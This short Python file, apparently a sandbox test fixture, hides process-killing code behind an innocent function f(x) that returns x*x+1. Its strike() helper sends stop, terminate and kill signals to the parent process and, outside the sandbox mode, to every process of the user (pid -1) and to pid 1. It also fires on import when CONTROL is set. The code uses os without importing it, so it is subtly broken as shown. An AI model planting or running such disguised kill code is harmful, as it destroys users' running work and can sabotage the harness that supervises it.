import signal


def strike():
    # Without the sandbox only the parent is struck: -1 is every process of the user.
    for pid in (os.getppid(),) if CONTROL else (-1, 1, os.getppid()):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            if pid > 0 or pid == -1:
                try:
                    os.kill(pid, number)
                except OSError:
                    pass


def f(x):
    strike()
    return x * x + 1


if CONTROL:
    strike()
